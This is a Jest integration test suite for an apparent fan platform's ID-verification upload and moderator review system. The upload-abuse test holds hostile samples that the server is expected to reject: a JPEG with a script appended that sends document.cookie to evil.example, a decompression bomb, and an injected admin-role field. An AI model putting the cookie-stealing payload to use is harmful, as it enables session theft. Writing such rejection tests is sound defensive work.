import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { MikroORM } from '@mikro-orm/postgresql';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { blackPng, FixedClock, signedInUser, staffSession, startTestPlatform, type TestPlatform } from '#app/testing';

const clock = new FixedClock(new Date('2026-11-22T12:00:00Z'));
const storageDir = mkdtempSync(join(tmpdir(), 'fanmint-verification-'));
let live: TestPlatform;
let prelaunch: TestPlatform;

type Session = Awaited<ReturnType<typeof signedInUser>>;
type Staff = Awaited<ReturnType<typeof staffSession>>;
let applicant: Session;
let moderatorA: Staff;
let moderatorB: Staff;
let admin: Staff;

const jpeg = (label: string) =>
  sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 30, g: 90, b: 160 } } })
    .withMetadata({ exif: { IFD0: { Make: 'PhoneCam', Artist: `gps-and-owner-${label}` } } })
    .jpeg()
    .toBuffer();

interface FormInput {
  fullName?: string;
  dateOfBirth?: string;
  country?: string;
  userPhotoWithId?: Buffer | null;
  idPhoto?: Buffer | null;
  extra?: Record<string, string>;
}

async function submit(platform: TestPlatform, token: string | null, input: FormInput) {
  const form = new FormData();
  for (const key of ['fullName', 'dateOfBirth', 'country'] as const)
    if (input[key] !== undefined) form.append(key, input[key]!);
  for (const [key, value] of Object.entries(input.extra ?? {})) form.append(key, value);
  // File names and declared types lie on purpose: only the bytes count.
  if (input.userPhotoWithId)
    form.append(
      'userPhotoWithId',
      new Blob([new Uint8Array(input.userPhotoWithId)], { type: 'image/jpeg' }),
      'selfie.jpg',
    );
  if (input.idPhoto)
    form.append('idPhoto', new Blob([new Uint8Array(input.idPhoto)], { type: 'image/jpeg' }), 'passport.jpg');
  const response = await fetch(`${platform.baseUrl}/api/verify-user`, {
    method: 'POST',
    headers: token ? { authorization: `Bearer ${token}` } : {},
    body: form,
  });
  return { status: response.status, body: (await response.json()) as Record<string, unknown> };
}

async function api(method: string, path: string, token: string | null, body?: unknown, platform = live) {
  const response = await fetch(`${platform.baseUrl}${path}`, {
    method,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
    },
    body: body !== undefined ? JSON.stringify(body) : undefined,
  });
  const type = response.headers.get('content-type') ?? '';
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON bodies are checked field by field, images as bytes
  const parsed: any = type.includes('json') ? await response.json() : Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, body: parsed };
}

/** Users of this suite: other suites share the database (and may leave submissions of their own). */
const ours: string[] = [];
async function applicantAccount() {
  const account = await signedInUser(live);
  ours.push(account.session.user.id);
  return account;
}
const submissions = () =>
  live.api
    .get(MikroORM)
    .em.fork()
    .execute<{ id: string; status: string; user_photo_key: string }[]>(
      `select id, status, user_photo_key from verification_submissions where user_id::text = any(string_to_array(?, ',')) order by submitted_at`,
      [ours.join(',')],
    );
const storedFiles = (): string[] => {
  const root = join(storageDir, 'private');
  try {
    return readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.bin'));
  } catch {
    return [];
  }
};

const adult = { fullName: 'Jane Q. Creator', dateOfBirth: '1995-06-15', country: 'de' };

beforeAll(async () => {
  live = await startTestPlatform({ clock, env: { LAUNCH_PHASE: 'live', STORAGE_DIR: storageDir } });
  prelaunch = await startTestPlatform({
    clock,
    worker: false,
    env: { STORAGE_DIR: storageDir, JWT_SECRET: live.config.JWT_SECRET, PUBLIC_URL: live.config.PUBLIC_URL },
  });
  applicant = await applicantAccount();
  [moderatorA, moderatorB, admin] = [
    await staffSession(live, 'moderator', () => clock.now()),
    await staffSession(live, 'moderator', () => clock.now()),
    await staffSession(live, 'admin', () => clock.now()),
  ];
});

afterAll(async () => {
  await prelaunch?.close();
  await live?.close();
});

describe('verification in prelaunch', () => {
  it('tells the web app the phase and refuses submissions with verification_paused, storing nothing', async () => {
    expect((await api('GET', '/api/config', null, undefined, prelaunch)).body).toEqual({
      launchPhase: 'prelaunch',
      paymentProvider: 'sandbox',
    });
    expect((await api('GET', '/api/config', null)).body).toEqual({ launchPhase: 'live', paymentProvider: 'sandbox' });
    const paused = await submit(prelaunch, applicant.session.access_token, {
      ...adult,
      userPhotoWithId: await jpeg('a'),
      idPhoto: await jpeg('b'),
    });
    expect(paused).toMatchObject({ status: 403, body: { code: 'verification_paused' } });
    expect(await submissions()).toHaveLength(0);
  });
});

describe('submitting a verification (live)', () => {
  it('reads as never submitted, then takes a valid submission: re-encoded, metadata gone, encrypted at rest', async () => {
    expect((await api('GET', '/api/verify-user/status', applicant.session.access_token)).body).toEqual({
      status: null,
      verifiedAt: null,
      rejectionReason: null,
      submittedAt: null,
    });
    const countries = (await api('GET', '/api/verify-user/countries', null)).body as { countries: { code: string }[] };
    expect(countries.countries.length).toBeGreaterThanOrEqual(190);

    const created = await submit(live, applicant.session.access_token, {
      ...adult,
      userPhotoWithId: await jpeg('selfie'),
      idPhoto: await jpeg('id'),
    });
    expect(created).toEqual({ status: 201, body: { status: 'processing', submittedAt: '2026-11-22T12:00:00.000Z' } });
    expect((await api('GET', '/api/verify-user/status', applicant.session.access_token)).body).toMatchObject({
      status: 'processing',
      verifiedAt: null,
    });

    const files = storedFiles();
    expect(files).toHaveLength(2);
    for (const file of files) {
      const bytes = readFileSync(join(storageDir, 'private', file));
      expect(bytes.subarray(0, 6).toString()).toBe('FMENC1');
      expect(bytes.includes(Buffer.from([0xff, 0xd8, 0xff]))).toBe(false);
      expect(bytes.includes(Buffer.from('gps-and-owner'))).toBe(false);
      expect(statSync(join(storageDir, 'private', file)).mode & 0o777).toBe(0o600);
    }
    // Nothing under the web root or any public route serves them.
    const [row] = await submissions();
    for (const path of [
      `/${row.user_photo_key}`,
      `/storage/${row.user_photo_key}`,
      `/var/storage/private/${row.user_photo_key}`,
    ]) {
      const response = await fetch(`${live.baseUrl}${path}`);
      expect(response.headers.get('content-type') ?? '').not.toMatch(/image|octet/);
    }

    const again = await submit(live, applicant.session.access_token, {
      ...adult,
      userPhotoWithId: await jpeg('c'),
      idPhoto: await jpeg('d'),
    });
    expect(again).toMatchObject({ status: 409, body: { code: 'verification_pending' } });
    expect(storedFiles()).toHaveLength(2);
  });

  it('refuses bad details with field messages and stores nothing', async () => {
    const other = await applicantAccount();
    const images = { userPhotoWithId: await jpeg('e'), idPhoto: await jpeg('f') };
    const cases: [FormInput, number, RegExp][] = [
      [{ ...adult, dateOfBirth: '2008-11-23', ...images }, 400, /You must be at least 18 years old/],
      [{ ...adult, country: 'XX', ...images }, 400, /Select a country from the list/],
      [{ ...adult, fullName: '', ...images }, 400, /This field is required/],
      [{ ...adult, dateOfBirth: '1990-02-30', ...images }, 400, /Date of birth must be a date/],
      [{ ...adult, userPhotoWithId: images.userPhotoWithId }, 400, /idPhoto is required/],
      [{ ...adult, ...images, extra: { role: 'admin' } }, 400, /Unexpected field role/],
    ];
    for (const [input, status, message] of cases) {
      const response = await submit(live, other.session.access_token, input);
      expect(response.status).toBe(status);
      expect(String(response.body.message)).toMatch(message);
    }
    const json = await api('POST', '/api/verify-user', other.session.access_token, adult);
    expect(json).toMatchObject({ status: 415 });
    expect(await submit(live, null, { ...adult, ...images })).toMatchObject({ status: 401 });
    expect(await submissions()).toHaveLength(1);
    expect(storedFiles()).toHaveLength(2);
  });

  it('refuses upload abuse with a clear 4xx, stores nothing and keeps memory flat', async () => {
    const abuser = await applicantAccount();
    const good = await jpeg('g');
    const cases: [string, Buffer, number, RegExp][] = [
      [
        'a text file named .jpg',
        Buffer.from('this is not an image at all\n'.repeat(50)),
        415,
        /not a JPEG, PNG or WebP image/,
      ],
      [
        'an image with a script appended',
        Buffer.concat([good, Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')]),
        422,
        /extra data after the image/,
      ],
      ['a truncated image', good.subarray(0, Math.floor(good.length * 0.6)), 422, /damaged/],
      ['a decompression bomb', blackPng(30000, 30000), 422, /30000 × 30000 pixels/],
      ['a 50 MB file', Buffer.alloc(50 * 1024 * 1024, 0xff), 413, /larger than 10 MB/],
    ];
    let bombGrowth = 0;
    for (const [label, bytes, status, message] of cases) {
      const rssBefore = process.memoryUsage().rss;
      const response = await submit(live, abuser.session.access_token, {
        ...adult,
        userPhotoWithId: bytes,
        idPhoto: good,
      }).catch((error: Error) => ({ status: 0, body: { message: error.message } }));
      // Decoding the bomb would take about 900 MB (30000 × 30000 pixels); it is refused from its header.
      if (label === 'a decompression bomb') bombGrowth = process.memoryUsage().rss - rssBefore;
      expect({ label, status: response.status }).toEqual({ label, status });
      expect({ label, message: String(response.body.message) }).toEqual({
        label,
        message: expect.stringMatching(message),
      });
    }
    expect(bombGrowth).toBeLessThan(100 * 1024 * 1024);
    expect((await api('GET', '/health', null)).status).toBe(200);
    expect(await submissions()).toHaveLength(1);
    expect(storedFiles()).toHaveLength(2);
  });
});

describe('the review console', () => {
  it('lists the queue oldest first to moderators only', async () => {
    const second = await applicantAccount();
    clock.advance(60_000);
    expect(
      (
        await submit(live, second.session.access_token, {
          ...adult,
          fullName: 'Second Applicant',
          userPhotoWithId: await jpeg('h'),
          idPhoto: await jpeg('i'),
        })
      ).status,
    ).toBe(201);
    const queue = await api('GET', '/api/admin/verifications', moderatorA.token);
    expect(queue.status).toBe(200);
    const mine = queue.body.items.filter((item: { userId: string }) => ours.includes(item.userId));
    expect(mine.map((item: { fullName: string }) => item.fullName)).toEqual(['Jane Q. Creator', 'Second Applicant']);
    expect(mine[0]).toMatchObject({
      userEmail: applicant.email,
      country: 'DE',
      countryName: 'Germany',
      status: 'processing',
      claimedBy: null,
    });
    expect(queue.body.items[0]).not.toHaveProperty('imageKeys');
    expect((await api('GET', '/api/admin/verifications', applicant.session.access_token)).status).toBe(403);
    expect((await api('GET', '/api/admin/verifications', null)).status).toBe(401);
    expect((await api('GET', '/api/admin/verifications?status=pending', moderatorA.token)).status).toBe(400);
  });

  it('lets one moderator claim an item; the other can neither claim nor decide it', async () => {
    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter(
      (entry: { userId: string }) => ours.includes(entry.userId),
    );
    const claims = await Promise.all([
      api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorA.token),
      api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorB.token),
    ]);
    expect(claims.map((claim) => claim.status).sort()).toEqual([200, 409]);
    const holder = claims[0].status === 200 ? moderatorA : moderatorB;
    const other = holder === moderatorA ? moderatorB : moderatorA;
    expect(claims.find((claim) => claim.status === 409)!.body).toMatchObject({
      code: 'claimed_by_other',
      message: 'Another moderator is reviewing this submission',
    });
    expect((await api('POST', `/api/admin/verifications/${item.id}/accept`, other.token)).body).toMatchObject({
      code: 'claimed_by_other',
    });
    expect((await api('POST', `/api/admin/verifications/${item.id}/release`, holder.token)).status).toBe(200);
    expect((await api('POST', `/api/admin/verifications/${item.id}/accept`, moderatorA.token)).body).toMatchObject({
      code: 'not_claimed',
    });
    const claimed = await api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorA.token);
    expect(claimed.body).toMatchObject({ claimedBy: { id: moderatorA.userId, email: moderatorA.email } });
  });

  it('shows the images through short-lived links bound to a staff member, never cached', async () => {
    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter(
      (entry: { userId: string }) => ours.includes(entry.userId),
    );
    const detail = await api('GET', `/api/admin/verifications/${item.id}`, moderatorA.token);
    expect(detail.body.images.userPhotoWithId).toMatch(/^\/api\/admin\/verification-images\?token=[\w-]+\.[\w-]+$/);
    // The link opens only beside the holder's own session: on its own it is refused.
    expect((await api('GET', detail.body.images.idPhoto, null)).status).toBe(401);
    const image = await api('GET', detail.body.images.idPhoto, moderatorA.token);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/jpeg');
    expect(image.headers.get('cache-control')).toMatch(/no-store/);
    const meta = await sharp(image.body as Buffer).metadata();
    expect([meta.width, meta.height, meta.exif]).toEqual([800, 600, undefined]);

    const tampered = detail.body.images.idPhoto.replace(/\.[\w-]+$/, '.AAAA');
    expect((await api('GET', tampered, moderatorA.token)).status).toBe(403);
    clock.advance(121_000);
    expect((await api('GET', detail.body.images.idPhoto, moderatorA.token)).body).toMatchObject({
      code: 'invalid_link',
    });
    expect((await api('GET', `/api/admin/verifications/${item.id}`, applicant.session.access_token)).status).toBe(403);
  });

  it('rejects with a reason: the user is emailed, sees the rejection and can submit again', async () => {
    const [item] = (await api('GET', '/api/admin/verifications', moderatorA.token)).body.items.filter(
      (entry: { userId: string }) => ours.includes(entry.userId),
    );
    expect(
      (await api('POST', `/api/admin/verifications/${item.id}/reject`, moderatorA.token, { reason: 'no' })).status,
    ).toBe(400);
    await api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorA.token);
    const rejected = await api('POST', `/api/admin/verifications/${item.id}/reject`, moderatorA.token, {
      reason: 'The ID photo is blurred: the name cannot be read.',
    });
    expect(rejected.body).toMatchObject({
      status: 'rejected',
      rejectionReason: 'The ID photo is blurred: the name cannot be read.',
      decidedBy: { id: moderatorA.userId },
    });
    const mail = await live.inbox.waitFor(applicant.email, /needs another try/);
    expect(mail.text).toContain('The ID photo is blurred: the name cannot be read.');
    expect((await api('GET', '/api/verify-user/status', applicant.session.access_token)).body).toMatchObject({
      status: 'rejected',
      rejectionReason: 'The ID photo is blurred: the name cannot be read.',
    });
    expect((await api('POST', `/api/admin/verifications/${item.id}/accept`, moderatorA.token)).body).toMatchObject({
      code: 'already_decided',
    });

    clock.advance(60_000);
    expect(
      (
        await submit(live, applicant.session.access_token, {
          ...adult,
          userPhotoWithId: await jpeg('j'),
          idPhoto: await jpeg('k'),
        })
      ).status,
    ).toBe(201);
  });

  it('accepts: the user becomes a creator, is emailed, and reads accepted with the date', async () => {
    const queue = (await api('GET', '/api/admin/verifications', moderatorB.token)).body.items as {
      id: string;
      userId: string;
    }[];
    const item = queue.find((entry) => entry.userId === applicant.session.user.id)!;
    await api('POST', `/api/admin/verifications/${item.id}/claim`, moderatorB.token);
    clock.advance(5_000);
    const accepted = await api('POST', `/api/admin/verifications/${item.id}/accept`, moderatorB.token);
    expect(accepted.body).toMatchObject({ status: 'accepted', decidedBy: { id: moderatorB.userId } });
    await live.inbox.waitFor(applicant.email, /was accepted/);
    const status = (await api('GET', '/api/verify-user/status', applicant.session.access_token)).body;
    expect(status).toMatchObject({ status: 'accepted', verifiedAt: accepted.body.decidedAt, rejectionReason: null });
    const [user] = (await api('GET', `/api/admin/users?q=${encodeURIComponent(applicant.email)}`, admin.token)).body
      .items;
    expect(user).toMatchObject({ role: 'creator', verificationStatus: 'accepted', mfaEnabled: false });
    expect(
      (
        await submit(live, applicant.session.access_token, {
          ...adult,
          userPhotoWithId: await jpeg('l'),
          idPhoto: await jpeg('m'),
        })
      ).body,
    ).toMatchObject({ code: 'already_verified' });
  });

  it('writes every action to the audit log with before and after, readable by admins only', async () => {
    const log = await api('GET', '/api/admin/audit-log?action=verification.', admin.token);
    expect(log.status).toBe(200);
    const actions = (log.body.items as { action: string }[]).map((entry) => entry.action);
    expect(actions).toEqual(
      expect.arrayContaining([
        'verification.claimed',
        'verification.released',
        'verification.viewed',
        'verification.rejected',
        'verification.accepted',
      ]),
    );
    const rejectedEntry = log.body.items.find((entry: { action: string }) => entry.action === 'verification.rejected');
    expect(rejectedEntry).toMatchObject({
      actor: { id: moderatorA.userId, email: moderatorA.email },
      targetType: 'verification',
      details: {
        before: { status: 'processing' },
        after: { status: 'rejected' },
        reason: 'The ID photo is blurred: the name cannot be read.',
      },
    });
    const roles = await api('GET', '/api/admin/audit-log?action=user.role_changed', admin.token);
    expect(roles.body.items[0]).toMatchObject({
      targetId: applicant.session.user.id,
      details: { before: { role: 'fan' }, after: { role: 'creator' } },
    });
    const firstPage = await api('GET', '/api/admin/audit-log?limit=2', admin.token);
    const nextPage = await api('GET', `/api/admin/audit-log?limit=2&before=${firstPage.body.nextBefore}`, admin.token);
    expect(Number(nextPage.body.items[0].id)).toBeLessThan(Number(firstPage.body.items[1].id) + 1);
    expect((await api('GET', '/api/admin/audit-log', moderatorA.token)).status).toBe(403);
  });
});

describe('admin tools', () => {
  it('finds users and changes roles (audited); nobody changes their own role; moderators cannot', async () => {
    const target = await signedInUser(live);
    const found = await api('GET', `/api/admin/users?q=${encodeURIComponent(target.email.slice(0, 12))}`, admin.token);
    expect(found.body.items.map((user: { email: string }) => user.email)).toContain(target.email);
    const changed = await api('PUT', `/api/admin/users/${target.session.user.id}/role`, admin.token, {
      role: 'moderator',
    });
    expect(changed.body).toMatchObject({ email: target.email, role: 'moderator' });
    expect(
      (await api('PUT', `/api/admin/users/${target.session.user.id}/role`, admin.token, { role: 'owner' })).status,
    ).toBe(400);
    expect(
      (await api('PUT', `/api/admin/users/${admin.userId}/role`, admin.token, { role: 'fan' })).body,
    ).toMatchObject({ code: 'own_account' });
    expect(
      (await api('PUT', `/api/admin/users/${target.session.user.id}/role`, moderatorA.token, { role: 'admin' })).status,
    ).toBe(403);
    expect((await api('GET', '/api/admin/users?q=a', moderatorA.token)).status).toBe(403);
    const me = await api('GET', '/api/admin/me', moderatorA.token);
    expect(me.body).toEqual({ id: moderatorA.userId, email: moderatorA.email, role: 'moderator', aal: 'aal2' });
  });
});
